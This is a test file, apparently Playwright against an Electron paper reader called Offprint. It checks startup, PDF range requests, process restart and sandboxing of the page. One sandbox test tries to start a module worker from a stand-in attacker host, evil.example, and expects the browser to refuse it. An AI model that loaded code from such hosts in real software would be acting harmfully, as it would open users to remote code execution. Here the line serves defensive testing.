import { expect, test } from './launch/index.ts';
import { LibraryPage } from './pages/library-page.ts';
import { ReaderPage } from './pages/reader-page.ts';

test('[START-2] the window opens and the core answers over its port', async ({ app }) => {
  await expect(app.page).toHaveTitle(/Offprint/);
  expect(app.page.url()).toBe('offprint-app://interface/');
  const [first] = app.upstream.papersOn(app.upstream.days.at(-1)!);
  await expect(app.page.getByText(first!.title).first()).toBeVisible();
});

test('[SAFE-1] the page has no Node and only the one function of the preload', async ({ app }) => {
  const seen = await app.page.evaluate(() => ({
    require: typeof (globalThis as { require?: unknown }).require,
    process: typeof (globalThis as { process?: unknown }).process,
    shell: Object.keys((globalThis as { offprintShell?: object }).offprintShell ?? {}).sort(),
  }));
  expect(seen).toEqual({
    require: 'undefined',
    process: 'undefined',
    shell: ['kind', 'requestPort'],
  });
});

test('[READ-8] a stored PDF is served with Range over our scheme', async ({ app }) => {
  const [paper] = app.upstream.papersOn(app.upstream.days.at(-1)!);
  const fetched = await app.cli(['fetch-pdf', `arxiv:${paper!.id}`, '--json']);
  const [{ sha256, bytes }] = JSON.parse(fetched.stdout);
  const part = await app.page.evaluate(async (hash) => {
    const response = await fetch(`/pdf/${hash}`, { headers: { range: 'bytes=0-4' } });
    const { status, headers } = response;
    return { status, range: headers.get('content-range'), text: await response.text() };
  }, sha256);
  expect(part).toEqual({ status: 206, range: `bytes 0-4/${bytes}`, text: '%PDF-' });
});

test('[SAFE-1] a module worker starts from our scheme, and a foreign one does not', async ({
  app,
}) => {
  const library = new LibraryPage(app.page);
  await library.ready();
  await library.select(0);
  await library.read();
  await new ReaderPage(app.page).ready();
  // Where it cannot start, pdf.js parses in the page: slower, and no worker is there.
  const workers = app.page.workers().map((worker) => worker.url());
  expect(workers).toContainEqual(expect.stringMatching(/^offprint-app:.*pdf\.worker/));
  const foreign = await app.page.evaluate(() => {
    try {
      return new Worker('https://evil.example/x.js', { type: 'module' }) && 'made';
    } catch {
      return 'refused';
    }
  });
  expect(foreign).toBe('refused');
});

test('[SAFE-5] the page reaches no other address and opens no window', async ({ app }) => {
  const path = '/no-page-may-ask-this';
  const opened = await app.page.evaluate(async (url) => {
    await fetch(url, { mode: 'no-cors' }).catch(() => {});
    return window.open('about:blank') !== null;
  }, `${app.upstream.origin}${path}`);
  expect(opened).toBe(false);
  expect(app.upstream.requests.map((request) => request.path)).not.toContain(path);
});

test('[START-5] a killed core is started again, and the page reaches it without a reload', async ({
  app,
}) => {
  const library = new LibraryPage(app.page);
  await library.ready();
  await app.kill();
  const id = await library.select(1);
  const paper = app.upstream.papers.find((known) => id === `arxiv:${known.id}`)!;
  await expect(library.details).toContainText(paper.abstract.slice(0, 60));
  expect((await app.cli(['list', '--json', '--limit', '1'])).code).toBe(0);
});
